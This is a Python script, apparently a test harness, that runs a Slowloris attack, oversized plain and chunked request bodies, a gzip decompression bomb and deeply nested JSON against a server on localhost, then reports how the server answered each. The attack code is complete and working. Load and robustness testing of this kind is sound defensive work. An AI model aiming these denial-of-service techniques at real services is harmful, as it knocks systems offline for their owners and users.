"""Four ways to hurt a server with little effort, until told to stop; counts what the server made of each."""

import asyncio
import gzip
import os
import sys
from collections import Counter
from collections.abc import Awaitable, Callable
from contextlib import suppress
from random import random
from typing import cast

import msgspec
import uvloop

SILENT_SOCKETS = 2000
_DRIBBLE_SECONDS = 1.0
_SLICES = 100
_SENDERS = 4
_LONGEST_PAUSE_SECONDS = 0.2
# Who attacks has machines of their own: what this process computes is not to be mistaken for what it does to others.
_NICENESS = 10
_PIECE = b" " * 65_536
_HUGE = 100 * 1024 * 1024
_BOMB = gzip.compress(b'{"userQuery":"' + b"a" * 30_000_000 + b'"}')
_DEEP = b"[" * 100_000
_DEEP_ENOUGH_TO_PASS = b"[" * 60_000
_HEAD = "POST /api/tasks HTTP/1.1\r\nHost: api\r\nContent-Type: application/json\r\n"


class Job(msgspec.Struct, frozen=True):
    """Whom to attack."""

    port: int


class Toll(msgspec.Struct, frozen=True, rename="camel"):
    """What was done: sockets opened for Slowloris and the most that were open at once; answers by attack and status."""

    silent_opened: int
    silent_at_once: int
    answers: dict[str, dict[str, int]]


class Dribble(asyncio.Protocol):
    """A connection whose request never ends."""

    def __init__(self, lost: Callable[["Dribble"], None]) -> None:
        self._lost = lost
        self._transport: asyncio.Transport | None = None

    def connection_made(self, transport: asyncio.BaseTransport) -> None:
        """See `asyncio.Protocol`."""
        self._transport = cast(asyncio.Transport, transport)
        self._transport.write(b"GET /api/health/live HTTP/1.1\r\nHost: api\r\nX-Slow: ")

    def connection_lost(self, exc: Exception | None) -> None:  # noqa: ARG002
        """See `asyncio.Protocol`."""
        self._transport = None
        self._lost(self)

    def more(self) -> None:
        """Sends one byte."""
        if self._transport is not None:
            self._transport.write(b"a")

    def abort(self) -> None:
        """Ends it."""
        if self._transport is not None:
            self._transport.abort()


class Slowloris:
    """Holds so many connections, each with a byte a second; opens those anew that the server closes."""

    def __init__(self, port: int, count: int) -> None:
        self._port = port
        self._count = count
        self._open: dict[Dribble, None] = {}
        self.opened = 0
        self.at_once = 0

    async def run(self) -> None:
        """Goes on until it is cancelled."""
        try:
            while True:
                for number in range(_SLICES):
                    await self._open_missing(self._count // _SLICES * 2)
                    for dribble in list(self._open)[number::_SLICES]:
                        dribble.more()
                    await asyncio.sleep(_DRIBBLE_SECONDS / _SLICES)
        finally:
            for dribble in list(self._open):
                dribble.abort()

    async def _open_missing(self, most: int) -> None:
        loop = asyncio.get_running_loop()
        for _ in range(min(self._count - len(self._open), most)):
            with suppress(OSError):
                _, dribble = await loop.create_connection(lambda: Dribble(self._closed), "127.0.0.1", self._port)
                self._open[dribble] = None
                self.opened += 1
        self.at_once = max(self.at_once, len(self._open))

    def _closed(self, dribble: Dribble) -> None:
        self._open.pop(dribble, None)


async def _sent(port: int, head: str, pieces: Callable[[asyncio.StreamWriter], Awaitable[None]]) -> str:
    """The status of the answer, or `closed` where there was none."""
    try:
        reader, writer = await asyncio.open_connection("127.0.0.1", port)
    except OSError:
        return "refused"
    try:
        writer.write(f"{_HEAD}{head}\r\n\r\n".encode())
        # What is refused need not be read: the answer may well come while it is still being sent.
        sending = asyncio.ensure_future(pieces(writer))
        line = b""
        with suppress(OSError):
            line = await reader.readline()
        sending.cancel()
        await asyncio.wait([sending])
        if not sending.cancelled():
            sending.exception()
        return line.split()[1].decode() if line else "closed"
    finally:
        writer.transport.abort()


async def _huge(writer: asyncio.StreamWriter) -> None:
    for _ in range(_HUGE // len(_PIECE)):
        writer.write(_PIECE)
        await writer.drain()


async def _huge_chunks(writer: asyncio.StreamWriter) -> None:
    for _ in range(_HUGE // len(_PIECE)):
        writer.write(b"10000\r\n" + _PIECE + b"\r\n")
        await writer.drain()


def _whole(body: bytes) -> Callable[[asyncio.StreamWriter], Awaitable[None]]:
    async def write(writer: asyncio.StreamWriter) -> None:
        writer.write(body)
        await writer.drain()

    return write


_BODIES = {
    "hugeBody": (f"Content-Length: {_HUGE}", _huge),
    "hugeChunks": ("Transfer-Encoding: chunked", _huge_chunks),
    "gzipBomb": (f"Content-Encoding: gzip\r\nContent-Length: {len(_BOMB)}", _whole(_BOMB)),
    "deepJson": (f"Content-Length: {len(_DEEP)}", _whole(_DEEP)),
    "lessDeepJson": (f"Content-Length: {len(_DEEP_ENOUGH_TO_PASS)}", _whole(_DEEP_ENOUGH_TO_PASS)),
}


async def _send_for_ever(port: int, name: str, answers: Counter[str]) -> None:
    while True:
        await asyncio.sleep(random() * _LONGEST_PAUSE_SECONDS)
        answers[await _sent(port, *_BODIES[name])] += 1


async def attack(job: Job) -> Toll:
    """All of it at once, until stdin ends."""
    slowloris = Slowloris(job.port, SILENT_SOCKETS)
    answers: dict[str, Counter[str]] = {name: Counter() for name in _BODIES}
    attacks = [asyncio.create_task(slowloris.run())]
    for name in _BODIES:
        attacks += [asyncio.create_task(_send_for_ever(job.port, name, answers[name])) for _ in range(_SENDERS)]
    await asyncio.to_thread(sys.stdin.buffer.read)
    for task in attacks:
        task.cancel()
    await asyncio.wait(attacks)
    for task in attacks:
        if not task.cancelled() and (error := task.exception()):
            raise error
    return Toll(slowloris.opened, slowloris.at_once, {name: dict(counts) for name, counts in answers.items()})


def main() -> None:
    """The job is the first line of stdin, the toll goes to stdout; both are JSON."""
    os.nice(_NICENESS)
    job = msgspec.json.decode(sys.stdin.buffer.readline(), type=Job)
    sys.stdout.buffer.write(msgspec.json.encode(uvloop.run(attack(job))))


if __name__ == "__main__":
    main()
